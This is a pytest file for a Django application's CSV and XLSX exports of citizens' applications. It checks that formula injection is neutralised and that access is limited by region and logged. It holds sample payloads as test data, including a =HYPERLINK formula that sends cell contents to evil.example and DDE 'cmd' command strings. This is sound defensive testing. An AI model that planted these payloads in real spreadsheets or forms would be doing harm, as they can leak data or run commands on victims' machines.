"""Officials' CSV and XLSX exports: a citizen's answer can never run as a spreadsheet formula."""

# ruff: noqa: F811 - the fixtures imported from statushelpers are used as arguments

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from constructor.applications.models import AnswerAccess
from constructor.spreadsheets import spreadsheet_cell
from tests.applications.statushelpers import (  # noqa: F401 - fixtures
    integration,
    make_application,
    status_service,
)

EXFILTRATION = '=HYPERLINK("https://evil.example/?d="&B3&C3, "Подробнее")'

# One hostile answer per character that starts a formula, plus the same hidden behind
# whitespace, a line break, an invisible character or a control character.
HOSTILE = [
    EXFILTRATION,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0@SUM(A1:A9)",
    "\n-1+1",
    "\u200b=1+1",
]


def export_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def export_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def sheet_cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row]


def column(header, name):
    return header.index(name)


@pytest.fixture
def hostile_application(make_application):
    def make(answer):
        return make_application({"child_name": answer, "contact_email": "anna@example.ru"})

    return make


@pytest.mark.parametrize("answer", HOSTILE)
def test_a_formula_answer_is_text_in_the_csv(client, editor, hostile_application, answer):
    application = hostile_application(answer)
    client.force_login(editor)
    header, row = export_rows(client.get(reverse("applications_admin_export")))
    assert row[0] == application.number
    assert row[column(header, "Имя ребёнка")] == "'" + answer


@pytest.mark.parametrize("answer", HOSTILE)
def test_a_formula_answer_is_text_in_the_xlsx(client, editor, hostile_application, answer):
    application = hostile_application(answer)
    client.force_login(editor)
    response = client.get(reverse("applications_admin_export_xlsx"))
    sheet = export_sheet(response)
    assert all(cell.data_type != "f" for cell in sheet_cells(sheet))
    header = [cell.value for cell in sheet[1]]
    row = [cell.value for cell in sheet[2]]
    assert row[0] == application.number
    # XML keeps a lone carriage return as a line feed; what matters is the quote before it.
    assert row[column(header, "Имя ребёнка")] == "'" + answer.replace("\r", "\n")


def test_ordinary_answers_are_exported_as_typed(client, editor, hostile_application):
    hostile_application("Мария-Антуанетта = 2 года")
    client.force_login(editor)
    header, row = export_rows(client.get(reverse("applications_admin_export")))
    assert row[column(header, "Имя ребёнка")] == "Мария-Антуанетта = 2 года"
    sheet = export_sheet(client.get(reverse("applications_admin_export_xlsx")))
    assert sheet.cell(row=2, column=column(header, "Имя ребёнка") + 1).value == (
        "Мария-Антуанетта = 2 года"
    )


@pytest.mark.parametrize("answer", ["#N/A", "#REF!", "TRUE", "12345", "1e5"])
def test_xlsx_keeps_answers_that_look_like_values_as_strings(
    client, editor, hostile_application, answer
):
    hostile_application(answer)
    client.force_login(editor)
    sheet = export_sheet(client.get(reverse("applications_admin_export_xlsx")))
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=column(header, "Имя ребёнка") + 1)
    assert (cell.value, cell.data_type) == (answer, "s")


def test_control_characters_do_not_break_the_xlsx(client, editor, hostile_application):
    hostile_application("Маша\x00\x01\x1b=1")
    client.force_login(editor)
    response = client.get(reverse("applications_admin_export_xlsx"))
    assert response.status_code == 200
    sheet = export_sheet(response)
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=column(header, "Имя ребёнка") + 1).value == "Маша=1"
    csv_header, row = export_rows(client.get(reverse("applications_admin_export")))
    assert row[column(csv_header, "Имя ребёнка")] == "Маша=1"


def test_xlsx_has_the_csv_columns_a_russian_header_and_real_dates(
    client, editor, hostile_application
):
    application = hostile_application("Маша")
    client.force_login(editor)
    csv_rows = export_rows(client.get(reverse("applications_admin_export")))
    response = client.get(reverse("applications_admin_export_xlsx"))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith('attachment; filename="applications-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert "no-store" in response["Cache-Control"]
    sheet = export_sheet(response)
    assert sheet.title == "Заявления"
    assert sheet.freeze_panes == "A2"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = rows[0]
    assert header[:5] == ["Номер", "Услуга", "Регион", "Статус", "Отправлено"]
    assert header == csv_rows[0]
    assert all(cell.font.bold for cell in sheet[1])
    submitted = rows[1][4]
    local = timezone.localtime(application.submitted_at).replace(tzinfo=None, second=0)
    assert isinstance(submitted, datetime.datetime)
    assert submitted.replace(second=0, microsecond=0) == local.replace(microsecond=0)
    assert sheet.cell(row=2, column=5).number_format == "DD.MM.YYYY HH:MM"
    assert csv_rows[1][4] == local.strftime("%d.%m.%Y %H:%M")
    assert rows[1][:4] == csv_rows[1][:4]
    assert rows[1][5:] == csv_rows[1][5:]


def test_xlsx_shows_only_the_officials_region_and_is_logged(
    client, editor, other_editor, federal_admin, hostile_application
):
    application = hostile_application("Маша")
    url = reverse("applications_admin_export_xlsx")
    client.force_login(other_editor)
    sheet = export_sheet(client.get(url))
    assert sheet.max_row == 1
    assert application.number not in {cell.value for cell in sheet_cells(sheet)}
    assert not AnswerAccess.objects.exists()

    client.force_login(editor)
    sheet = export_sheet(client.get(url))
    assert [cell.value for cell in sheet["A"]][1:] == [application.number]
    access = AnswerAccess.objects.get()
    assert (access.user, access.application, access.kind) == (editor, application, "export")

    client.force_login(federal_admin)
    assert sheet.max_row == export_sheet(client.get(url)).max_row


def test_xlsx_follows_the_filters(client, editor, hostile_application):
    hostile_application("Маша")
    client.force_login(editor)
    url = reverse("applications_admin_export_xlsx")
    assert export_sheet(client.get(url, {"status": "submitted"})).max_row == 2
    assert export_sheet(client.get(url, {"status": "refused"})).max_row == 1
    assert not AnswerAccess.objects.filter(kind="export").exclude(user=editor).exists()


def test_xlsx_is_refused_to_users_without_a_region(client, make_user, hostile_application):
    hostile_application("Маша")
    client.force_login(make_user("stranger"))
    response = client.get(reverse("applications_admin_export_xlsx"))
    assert response.status_code in (302, 403)
    assert not AnswerAccess.objects.exists()


def test_the_list_offers_both_exports_with_the_filters(client, editor, hostile_application):
    hostile_application("Маша")
    client.force_login(editor)
    page = client.get(reverse("applications_admin_index"), {"status": "submitted"})
    html = page.content.decode()
    assert f"{reverse('applications_admin_export_xlsx')}?status=submitted" in html
    assert "Выгрузить в Excel (XLSX)" in html
    assert f"{reverse('applications_admin_export')}?status=submitted" in html


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (None, ""),
        (42, 42),
        ("", ""),
        ("=", "'="),
        ("-", "'-"),
        ("Иванова", "Иванова"),
        ("a=b", "a=b"),
        ("\x00=cmd", "'=cmd"),
    ],
)
def test_the_shared_cell_rule(value, safe):
    assert spreadsheet_cell(value) == safe
